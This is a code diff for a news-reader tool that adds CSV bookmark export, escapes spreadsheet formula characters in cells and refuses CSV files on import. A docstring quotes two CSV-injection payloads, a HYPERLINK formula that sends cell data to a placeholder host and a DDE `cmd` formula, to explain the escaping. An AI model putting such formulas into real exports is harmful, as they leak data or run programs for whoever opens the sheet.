@@ -1,14 +1,18 @@
-"""Bookmark export (Markdown, JSON, YAML) and import (JSON, YAML).
+"""Bookmark export (Markdown, CSV, JSON, YAML) and import (JSON, YAML).
 
-Markdown is for reading and sharing, so it carries the article's first paragraph; JSON and
-YAML are for moving bookmarks between machines, so they carry exactly what `import` needs
-and nothing that would go stale. Import is strict: a file that is not one of our exports
-gets one clear line naming the problem, never a partial merge.
+Markdown is for reading and sharing, so it carries the article's first paragraph; CSV is
+for a spreadsheet (one row per bookmark, with the byline and the page's file to cite from);
+JSON and YAML are for moving bookmarks between machines, so they carry exactly what `import`
+needs and nothing that would go stale. Import is strict: a file that is not one of our
+exports gets one clear line naming the problem, never a partial merge; a CSV export is said
+to be one (a spreadsheet may have changed its cells: it is not read back).
 """
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import itertools
 import json
 import re
@@ -24,8 +28,17 @@ from newsreader.errors import UserError, printable, printable_json, value_kind
 from newsreader.fileio import is_special, write_text_atomically
 from newsreader.store.db import Bookmark
 
-#: Export format -> file ending.
-FORMATS: dict[str, str] = {"md": ".md", "json": ".json", "yaml": ".yaml"}
+#: Export format -> file ending; `bookmarks export --format` offers these.
+FORMATS: dict[str, str] = {"md": ".md", "json": ".json", "yaml": ".yaml", "csv": ".csv"}
+#: The formats `import` reads back.
+IMPORTABLE = ("json", "yaml")
+#: The formats that carry the article's text and page (the first paragraph, byline, file):
+#: the CLI reads the corpus for them; JSON and YAML carry the bookmark alone.
+WITH_ARTICLES = frozenset({"md", "csv"})
+#: The CSV export's header row, in column order (`bookmarks list --json`'s and `show --json`'s
+#: key names where they have one).
+CSV_COLUMNS = ("id", "title", "date", "source", "byline", "dateline", "tags", "note", "file",
+               "bookmarked_utc", "in_corpus", "first_paragraph")
 #: Marks our JSON/YAML documents, so import can refuse some other tool's file clearly.
 DOCUMENT_KIND = "newsreader-bookmarks"
 DOCUMENT_VERSION = 1
@@ -44,13 +57,17 @@ def export_bookmarks(
     articles: Mapping[str, Any] | None = None,
     now: dt.datetime | None = None,
 ) -> str:
-    """Render bookmarks in `fmt` ("md", "json" or "yaml"). `articles` maps id -> Article
-    for the Markdown first paragraphs; without it (or for articles that left the corpus)
-    the Markdown just says the text is not available."""
+    """Render bookmarks in `fmt` (one of `FORMATS`). `articles` maps id -> Article for the
+    Markdown first paragraphs and the CSV's byline, file and paragraph; without it (or for
+    articles that left the corpus) the Markdown just says the text is not available, and the
+    CSV leaves those cells empty (`in_corpus` says which: empty when the corpus could not be
+    read at all, `articles` None)."""
     items = list(bookmarks)
     stamp = (now or dt.datetime.now(dt.timezone.utc)).replace(microsecond=0)
     if fmt == "md":
         return _markdown(items, articles or {}, stamp)
+    if fmt == "csv":
+        return _csv(items, articles)
     document = {
         "format": DOCUMENT_KIND,
         "version": DOCUMENT_VERSION,
@@ -132,11 +149,70 @@ def _markdown(items: list[Bookmark], articles: Mapping[str, Any], stamp: dt.date
     return "\n".join(out)
 
 
+#: What a spreadsheet runs as a formula when a cell starts with it (and Excel's DDE, `=cmd|...`).
+_FORMULA_START = ("=", "+", "-", "@")
+
+
+def _cell(text: str | None) -> str:
+    r"""One CSV cell: the text with its line breaks kept (the csv module quotes the cell, RFC
+    4180), every other control or bidi override escaped as `printable` writes it (`\x1b`:
+    the file is read on a terminal too, `-o -`, as the other exports are), and a leading `'`
+    when it starts with = + - or @. Titles, bylines and paragraphs come from saved web pages
+    and notes may come from an imported file: a cell `=HYPERLINK("http://x/?"&A1, "…")` or
+    `=cmd|' /C calc'!A0` opened in Excel, LibreOffice or Google Sheets would run as a formula,
+    sending the sheet's cells away or starting a program (OWASP's "CSV injection"). The `'`
+    makes the cell text; the cost is a visible `'` before a note such as "- call back" in a
+    text editor. (Tab and CR, the other two starts OWASP lists, are escaped already.)"""
+    if not text:
+        return ""
+    text = "\n".join(printable(line) for line in text.replace("\r\n", "\n").split("\n"))
+    return "'" + text if text.startswith(_FORMULA_START) else text
+
+
+def _csv(items: list[Bookmark], articles: Mapping[str, Any] | None) -> str:
+    """One row per bookmark under a header row (`CSV_COLUMNS`), UTF-8 text with no byte-order
+    mark, rows ended by CRLF as RFC 4180 says (a note's own line breaks stay LF, inside its
+    quotes). Tags are joined by ", " as the Markdown writes them (a tag holds no comma the
+    CLI lets in: `--tag a,b` is two)."""
+    out = io.StringIO()
+    writer = csv.writer(out)  # the "excel" dialect: quotes only what needs it, "" for a quote
+    writer.writerow(CSV_COLUMNS)
+    for b in items:
+        article = articles.get(b.article_id) if articles is not None else None
+        in_corpus = "" if articles is None else "yes" if article is not None else "no"
+        row = {
+            "id": b.article_id,
+            "title": b.title,
+            "date": b.date.isoformat() if b.date else "",
+            "source": b.source,
+            "byline": getattr(article, "byline", None),
+            "dateline": getattr(article, "dateline", None),
+            "tags": ", ".join(b.tags),
+            "note": b.note.strip(),
+            "file": getattr(article, "file", None),
+            # As a spreadsheet reads a date and time (no "T", no zone: the column's name says UTC).
+            "bookmarked_utc": b.created_at.astimezone(dt.timezone.utc).strftime("%Y-%m-%d %H:%M:%S"),
+            "in_corpus": in_corpus,
+            "first_paragraph": _first_paragraph(article) if article is not None else None,
+        }
+        writer.writerow([_cell(row[column]) for column in CSV_COLUMNS])
+    return out.getvalue()
+
+
+def _csv_refusal(where: str) -> UserError:
+    """The one line for a CSV given to import: what it is, and which files import reads."""
+    kinds = " or ".join(f.upper() for f in IMPORTABLE)
+    return UserError(f"{where}: CSV cannot be imported (the CSV export is for spreadsheets); import a {kinds} "
+                     f"export instead: `newsreader bookmarks export --format {'|'.join(IMPORTABLE)}`")
+
+
 def parse_export(text: str, where: str) -> list[Bookmark]:
     """Read a JSON or YAML export back into bookmarks. Raise `UserError` naming `where`
     and the first problem; a bare list of bookmark records is accepted too."""
     if not text.strip():
         raise UserError(f"{where}: empty file; use a file made by `newsreader bookmarks export --format json|yaml`")
+    if text.lstrip("\ufeff").startswith(",".join(CSV_COLUMNS[:3])):  # our CSV's header (a BOM from a spreadsheet)
+        raise _csv_refusal(where)
     try:
         data = json.loads(text)
     except (ValueError, RecursionError):  # (RecursionError: nested too deeply for the parser)
@@ -198,7 +274,12 @@ def read_export_file(path: Path) -> list[Bookmark]:
         raise UserError(f"{path}: not UTF-8 text; expected a JSON or YAML bookmarks export") from None
     except OSError as exc:
         raise UserError(f"{path}: cannot read it ({exc.strerror or exc})") from None
-    return parse_export(text, str(path))
+    try:
+        return parse_export(text, str(path))
+    except UserError:
+        if path.suffix.lower() == ".csv":  # a CSV that is not ours as written (a spreadsheet saved it again)
+            raise _csv_refusal(str(path)) from None
+        raise
 
 
 def write_export(text: str, destination: str | None, fmt: str, stdout: TextIO, *, force: bool = False) -> str | None:
